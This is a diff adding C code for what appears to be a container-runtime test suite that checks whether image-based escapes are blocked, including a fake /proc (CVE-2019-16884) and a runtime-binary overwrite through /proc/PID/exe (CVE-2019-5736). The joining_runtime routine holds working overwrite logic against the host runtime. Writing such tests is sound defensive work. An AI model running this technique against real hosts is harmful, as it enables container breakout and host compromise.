@@ -1,0 +1,103 @@
+/* Images that were made to harm whoever starts a container from them; run.sh makes them. */
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <glob.h>
+#include <linux/magic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/vfs.h>
+#include <unistd.h>
+
+/* None: it tells that a container starts. */
+static int nothing(void)
+{
+    return 0;
+}
+
+/* 34: the attack is the image; whether it worked, the host sees (CVE-2021-30465 and many more). */
+static int hostile_image(void)
+{
+    return stopped("inside the root");
+}
+
+/* 35: who writes to a /proc that is not proc writes where the image wants (CVE-2019-16884). */
+static int fake_proc(void)
+{
+    struct statfs fs;
+
+    if (statfs("/proc/self", &fs) < 0)
+        return -1;
+    return fs.f_type == PROC_SUPER_MAGIC ? stopped("proc") : 0;
+}
+
+/* Finds a process that runs the file "DEVICE:INODE"; returns its pid, or -1. */
+static pid_t find_running(const char *wanted)
+{
+    char numbers[64];
+    struct stat status;
+    glob_t found;
+    pid_t pid = -1;
+
+    glob("/proc/[0-9]*/exe", 0, NULL, &found);
+    for (size_t i = 0; i < found.gl_pathc; i++) {
+        if (stat(found.gl_pathv[i], &status) < 0)
+            continue;
+        snprintf(numbers, sizeof(numbers), "%lu:%lu", status.st_dev, status.st_ino);
+        if (strcmp(numbers, wanted) == 0)
+            pid = (pid_t)strtol(found.gl_pathv[i] + strlen("/proc/"), NULL, 10);
+    }
+    globfree(&found);
+    return pid;
+}
+
+/*
+ * 39: /proc/PID/exe is the very file that a process runs, wherever it is. What can be found there
+ * can be written to, as soon as nobody runs it (CVE-2019-5736).
+ */
+static int runtime(void)
+{
+    if (need_proc() < 0)
+        return -1;
+    pid_t pid = find_running(host.argument);
+    if (pid < 0)
+        return stopped("not found");
+    return access(format("/proc/%d/exe", pid), W_OK) == 0 || errno == ETXTBSY ? 0 : -1;
+}
+
+/* 39: a join that is made to run itself inside, and to read a FIFO there, while its file is opened.
+ */
+static int joining_runtime(void)
+{
+    int fifo = open("/hold/here/pid", O_RDWR), file = -1;
+
+    puts("ready");
+    fflush(stdout);
+    for (int i = 0; i < 1000 && file < 0; i++) {
+        usleep(10000);
+        file = open(format("/proc/%d/exe", find_running(host.argument)), O_PATH);
+    }
+    if (write(fifo, "\n", 1) < 0 || file < 0) /* it goes on, and ends */
+        return stopped("not found");
+    for (int i = 0; i < 1000; i++) {
+        if (overwrite(format("/proc/self/fd/%d", file), "attacked") == 0)
+            return 0;
+        if (errno != ETXTBSY)
+            break;
+        usleep(10000);
+    }
+    return -1;
+}
+
+const struct attack image_attacks[] = {
+    {"nothing", nothing},
+    {"hostile_image", hostile_image},
+    {"fake_proc", fake_proc},
+    {"fake_proc_volume", fake_proc},
+    {"runtime", runtime},
+    {"joining_runtime", joining_runtime},
+    {0},
+};
